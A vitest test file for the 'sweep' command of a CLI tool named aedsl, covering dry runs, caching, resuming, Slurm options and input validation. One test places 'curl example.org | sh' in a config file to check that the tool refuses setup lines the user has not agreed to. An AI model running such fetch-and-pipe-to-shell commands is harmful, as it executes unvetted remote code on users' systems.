import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Database from '../sqlite.js';
import { type Finished, lines, type Workplace, workplace } from './command.js';

const experiment = `experiment little {
  param rate = 0.01 where 0 < rate < 1
  param units = 6 where units in [2, 4, 6, 8]
  data digits(take=120, validation=40, test=40) { center_crop(10) }
  encoder { code: dense(units, activation=sigmoid) }
  decoder { dense(input.size, activation=sigmoid) }
  loss mse()
  train adam(lr=rate) { epochs = 2  batch = 20 }
}
`;

let place: Workplace;
beforeAll(() => {
  place = workplace('one');
  writeFileSync(join(place.folder, 'little.ae'), experiment);
});
afterAll(() => place.leave());

const sweep = (...args: readonly string[]) => place.aedsl('sweep', 'little.ae', ...args);
const stored = () => readdirSync(place.folder).filter((name) => name.startsWith('results.db'));

/** The rows of a printed table of trials, without their last two columns: steps and time. */
function trials({ stdout }: Finished): readonly string[] {
  const rows = stdout.split('\n').filter((line) => /^ +\d+ /.test(line));
  return rows.map((row) => row.trim().split(/\s+/).slice(1, -2).join(' '));
}

describe('a sweep that is only shown', () => {
  it('has the trials of its axes, zips, draws and tables, and writes nothing', () => {
    const grid = sweep('rate=[0.01,0.05]', 'units=4,8', '--seeds', '2', '--dry-run');
    expect(grid.status).toBe(0);
    expect(grid.stdout).toMatch(/^little \(little\.ae\): 8 trials/);
    expect(grid.stdout).toMatch(/8 trials, 96 steps/);
    const json = sweep('rate=[0.01,0.05]', '--dry-run', '--json').stdout.trimEnd().split('\n');
    const [first, , last] = json.map((line): unknown => JSON.parse(line));
    expect(first).toMatchObject({ event: 'planned_trial', trial: 0, parameters: { rate: 0.01 }, steps: 12 });
    expect(last).toMatchObject({ event: 'planned', experiment: 'little', trials: 2, steps: 24 });
    const misnamed = sweep('rate=0.01', '--name', 'last', '--dry-run');
    expect([misnamed.status, misnamed.stdout, misnamed.stderr]).toEqual([
      2,
      '',
      expect.stringContaining("cannot be named 'last'"),
    ]);
    expect(sweep('rate=0.01', '--name', ' ', '--dry-run').stderr).toContain('cannot be empty');
    const zipped = sweep('rate=0.01,0.05', 'units=4,8', '--zip', 'rate,units', '--dry-run');
    expect(trials(zipped)).toEqual(['0.01 4', '0.05 8']);
    const drawn = sweep('rate=loguniform:0.001:0.1', '--trials', '5', '--method', 'sobol', '--dry-run');
    expect(trials(drawn)).toHaveLength(5);
    writeFileSync(join(place.folder, 'trials.csv'), 'rate,units\n0.02,4\n0.03,8\n');
    expect(trials(sweep('@trials.csv', '--dry-run'))).toEqual(['0.02 4', '0.03 8']);
    expect(stored()).toEqual([]);
  });

  it('is refused when it is too large to be meant, unless that is said', () => {
    const refused = sweep('--seeds', '10001', '--dry-run');
    expect(refused.status).toBe(3);
    expect(refused.stderr).toContain('the sweep has 10,001 trials, more than 10,000');
    expect(refused.stderr).toContain('--yes');
    const meant = sweep('--seeds', '10001', '--dry-run', '--yes');
    expect(meant.status).toBe(0);
    expect(meant.stdout).toContain('10,001 trials');
    expect(stored()).toEqual([]);
  });
});

/** In this order: each goes on from what the one before left. */
describe('a sweep', () => {
  it('prints events, trains what is new, and uses no more threads than there are cores', () => {
    const first = sweep('rate=0.01,0.05', '--json', '--jobs', '999', '--threads', '1', '--name', 'pair');
    expect(first.status).toBe(0);
    const events = lines(first.stdout);
    expect(events[0]).toMatchObject({ event: 'started', id: 's1', name: 'pair', threads: 1 });
    expect(events.find(({ event }) => event === 'note')?.text).toContain('999 jobs of 1 thread were asked for');
    expect(events.at(-1)).toMatchObject({ event: 'ended', status: 'complete', counts: { complete: 2 } });
  });

  it('says beforehand what would train and why', () => {
    const text = sweep('rate=0.01,0.05,0.1', '--explain');
    expect(text.status).toBe(0);
    expect(text.stdout).toMatch(/0\.05 +1 +cached +r2 is the same trial, and complete/);
    expect(text.stdout).toMatch(/0\.1 +1 +trains +the experiment is new: rate 0\.1, not/);
    expect(text.stdout).toContain('1 of 3 would train');
    const json = lines(sweep('rate=0.01,0.05,0.1', '--explain', '--json').stdout);
    expect(json.map(({ trains }) => trains)).toEqual([false, false, true]);
    const seeds = sweep('rate=0.01', '--seeds', '2', '--explain');
    expect(seeds.stdout).toContain('the seed is new: 2 (nearest: r1 with 1)');
    expect(lines(place.aedsl('ls', '--json').stdout)).toHaveLength(1);
  });

  it('reuses what is complete, and trains it again when it is forced to', () => {
    const reused = sweep('rate=0.01,0.1', '--reporter', 'plain');
    expect(reused.status).toBe(0);
    expect(reused.stdout).toContain('(the same trial as r1)');
    expect(reused.stdout).toContain('1 cached, 1 complete');
    const forced = sweep('rate=0.01', '--force', '--reporter', 'plain');
    expect(forced.status).toBe(0);
    expect(forced.stdout).toContain('1 complete');
    expect(forced.stdout).not.toContain('differ');
  });

  it('that nobody interrupted has nothing to be resumed, but for trials that failed when they are asked for', () => {
    expect(place.aedsl('resume').status).toBe(2);
    expect(place.aedsl('resume').stderr).toContain('nothing was interrupted');
    const database = new Database(join(place.folder, 'results.db'));
    database.exec("UPDATE runs SET status = 'failed', weights_sha256 = NULL, error = 'no memory' WHERE run = 2");
    database.exec("UPDATE sweep_trials SET state = 'failed', reason = 'no memory' WHERE sweep = 1 AND trial = 1");
    database.close();
    const untouched = place.aedsl('resume', 'pair', '--json');
    expect(untouched.status).toBe(1);
    expect(lines(untouched.stdout).at(-1)).toMatchObject({ counts: { complete: 1, failed: 1 } });
    const again = place.aedsl('resume', 'pair', '--failed', '--json');
    expect(again.status).toBe(0);
    expect(lines(again.stdout).at(-1)).toMatchObject({ id: 's1', counts: { complete: 2 } });
  });

  it('can be silent, and keep nothing', () => {
    const before = stored();
    const silent = sweep('rate=0.03', '--reporter', 'silent', '--no-store');
    expect(silent).toMatchObject({ status: 0, stdout: '', stderr: '' });
    expect(stored()).toEqual(before);
    expect(lines(place.aedsl('ls', '--json').stdout)).toHaveLength(3);
  });
});

describe('what cannot be meant is refused with what to do, before anything is written', () => {
  let clean: Workplace;
  beforeAll(() => {
    clean = workplace('one');
    writeFileSync(join(clean.folder, 'little.ae'), experiment);
    writeFileSync(join(clean.folder, 'ragged.csv'), 'rate,units\n0.02,4\n0.03\n');
    writeFileSync(join(clean.folder, 'notes.txt'), 'no database, but longer than the header of one. '.repeat(10));
    const newer = new Database(join(clean.folder, 'newer.db'));
    newer.pragma(`application_id = ${0x61654442}`);
    newer.exec('CREATE TABLE runs (run)');
    newer.pragma('user_version = 99');
    newer.close();
  });
  afterAll(() => clean.leave());

  const units = Array.from({ length: 200 }, (_, i) => (i === 36 ? 5 : [2, 4, 6, 8][i % 4]));
  const rates = Array.from({ length: 200 }, (_, i) => (i + 1) / 1000);

  it.each([
    ['an axis that nobody declares', ['little.ae', 'rat=0.1,0.2'], 3, /'rat'[\s\S]*did you mean 'rate'/],
    ['one that no experiment declares', ['widht=1,2'], 2, /no experiment of 'experiments' has the param 'widht'/],
    ['an empty list', ['little.ae', 'rate=[]'], 3, /AE602[\s\S]*rate/],
    [
      'a value outside the range in one of many trials',
      ['little.ae', `rate=${rates.join(',')}`, `units=${units.join(',')}`, '--zip', 'rate,units'],
      3,
      /units = 5 is not allowed: it must satisfy units in \[2, 4, 6, 8\] \(trial 36 of 200: /,
    ],
    [
      'axes that zip unequally',
      ['little.ae', 'rate=0.1,0.2', 'units=2,4,6', '--zip', 'rate,units'],
      3,
      /AE607[\s\S]*units/,
    ],
    ['a ragged row', ['little.ae', '@ragged.csv'], 3, /ragged\.csv:3[\s\S]*AE605|AE605[\s\S]*ragged\.csv:3/],
    ['a table that is not there', ['little.ae', '@nowhere.csv'], 3, /AE701[\s\S]*nowhere\.csv/],
    [
      'an experiment that is not there',
      ['nowhere.ae', 'rate=0.1'],
      4,
      /cannot read 'nowhere.ae': no such file or folder/,
    ],
    ['a word that is no axis', ['little.ae', 'rate'], 3, /AE602[\s\S]*'rate' is not an axis[\s\S]*rho=0\.01,0\.05/],
    [
      'a zip of no names',
      ['little.ae', 'rate=0.1', '--zip', 'rate,0.1'],
      3,
      /AE607[\s\S]*'0\.1' is not the name of an axis/,
    ],
    ['a reporter that is none', ['little.ae', 'rate=0.1', '--reporter', 'loud'], 2, /dashboard, plain, json or silent/],
    ['no number of jobs', ['little.ae', 'rate=0.1', '--jobs', '0'], 2, /--jobs must be a whole number/],
    ['no number of threads', ['little.ae', 'rate=0.1', '--threads', 'many'], 2, /--threads must be a whole number/],
    ['no time', ['little.ae', 'rate=0.1', '--checkpoint-every', 'often'], 2, /30s, 5m or 2epochs/],
    [
      'no Slurm',
      ['little.ae', 'rate=0.1', '--on', 'slurm'],
      4,
      /cannot run sbatch: [\s\S]*login node|sbatch refuses: /,
    ],
    [
      'no time of Slurm',
      ['little.ae', 'rate=0.1', '--on', 'slurm', '--time', 'soon'],
      2,
      /--time is not written as Slurm/,
    ],
    ['Slurm, and threads', ['little.ae', 'rate=0.1', '--on', 'slurm', '--threads', '2'], 2, /--threads has no effect/],
    ['options of Slurm alone', ['little.ae', 'rate=0.1', '--limit', '2'], 2, /--limit is for --on slurm/],
    ['a newer database', ['little.ae', 'rate=0.1', '--db', 'newer.db'], 4, /newer aedsl[\s\S]*schema 99/],
    ['a file that is no database', ['little.ae', 'rate=0.1', '--db', 'notes.txt'], 4, /not a (results )?database/],
    ['a folder', ['little.ae', 'rate=0.1', '--db', 'experiments'], 4, /not a file/],
  ] as const)('%s', (_what, args, status, message) => {
    const before = readdirSync(clean.folder).sort();
    const contents = ['newer.db', 'notes.txt'].map((name) => readFileSync(join(clean.folder, name)));
    const ended = clean.aedsl('sweep', ...args);
    expect(ended.stderr).toMatch(message);
    expect(ended.stderr).not.toMatch(/\.js:\d+/);
    expect(ended.status).toBe(status);
    expect(ended.stdout).toBe('');
    expect(readdirSync(clean.folder).sort()).toEqual(before);
    expect(['newer.db', 'notes.txt'].map((name) => readFileSync(join(clean.folder, name)))).toEqual(contents);
  });

  it('is not submitted with lines of code that nobody has agreed to', () => {
    const config = join(clean.folder, 'aedsl.config.json');
    writeFileSync(config, '{"slurm": {"setup": ["curl example.org | sh"]}}');
    const ended = clean.aedsl('sweep', 'little.ae', 'rate=0.1', '--on', 'slurm');
    expect(ended.stderr).toContain('there are setup lines for Slurm that you have not agreed to run:\n    curl');
    expect(ended.status).toBe(2);
    rmSync(config);
  });

  it.each([
    ['resume', 'nothing-of-that-name'],
    ['resume', 's9'],
    ['resume', 'r99'],
    ['show', 'nothing-of-that-name'],
    ['show', 's9'],
    ['ls', 's9'],
    ['watch', 's9'],
    ['sync', 's9'],
    ['report', 's9'],
  ])('%s %s: a sweep that is not there', (command, name) => {
    const ended = place.aedsl(command, name);
    expect(ended.stderr).toContain(name);
    expect(ended.stderr).toContain('aedsl ls');
    expect(ended.stderr).not.toMatch(/\.js:\d+/);
    expect(ended.status).toBe(2);
  });
});
